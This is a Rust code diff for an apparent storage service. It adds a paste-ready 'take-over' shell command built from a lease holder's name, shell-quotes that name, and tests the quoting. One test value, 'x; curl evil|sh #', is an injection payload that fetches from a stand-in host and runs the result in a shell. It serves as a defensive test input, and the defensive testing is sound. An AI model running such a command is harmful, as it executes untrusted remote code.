@@ -5,6 +5,7 @@ mod month;
 
 use axum::Json;
 use axum::extract::State;
+use holdfast_proto::details::shell_word;
 use holdfast_tiers::prices::{AS_OF, Dollars, REGION};
 use holdfast_tiers::{ClassTotals, Held, Holder, KindPlaces, is_archive};
 use serde::Serialize;
@@ -185,6 +186,8 @@ struct Writer {
     own: Option<Signature>,
     /// Another server that has the lease now; null: none has
     other: Option<Signature>,
+    /// The command that takes the bucket over from it, to be pasted; null: none has the lease
+    take_over: Option<String>,
 }
 
 /// What a lease says
@@ -268,7 +271,11 @@ fn describe(app: &App, bucket: &Bucket) -> Result<BucketState, ServiceError> {
         places_found: time(places_ms),
         classes: totals.classes.iter().map(|of| class(of, this_month.as_ref())).collect(),
         kept_back: kept_back(record).map_err(record_error)?.map(KeptOut::from),
-        writer: Writer { own: own.as_ref().map(Signature::from), other: other.as_ref().map(Signature::from) },
+        writer: Writer {
+            own: own.as_ref().map(Signature::from),
+            other: other.as_ref().map(Signature::from),
+            take_over: other.as_ref().map(take_over),
+        },
         retention: retention(bucket, now_ms)?,
         failure: status.failure,
         audit: audit::look(record)?,
@@ -337,8 +344,26 @@ impl From<&KindPlaces> for Place {
     }
 }
 
+/// The name is what someone wrote into the bucket.
+fn take_over(from: &Holder) -> String {
+    format!("holdfast-server tier take-over --from={}", shell_word(&from.name))
+}
+
 impl From<&Holder> for Signature {
     fn from(holder: &Holder) -> Self {
         Self { name: holder.name.clone(), since: time(holder.since_ms), number: holder.number }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_from_the_bucket_is_one_word_to_a_shell() {
+        let named = |name: &str| take_over(&Holder { name: name.to_owned(), ..Holder::default() });
+        assert_eq!(named("hv1:/srv"), "holdfast-server tier take-over --from=hv1:/srv");
+        assert_eq!(named("x; curl evil|sh #"), "holdfast-server tier take-over --from='x; curl evil|sh #'");
+        assert_eq!(named("--help"), "holdfast-server tier take-over --from='--help'");
     }
 }
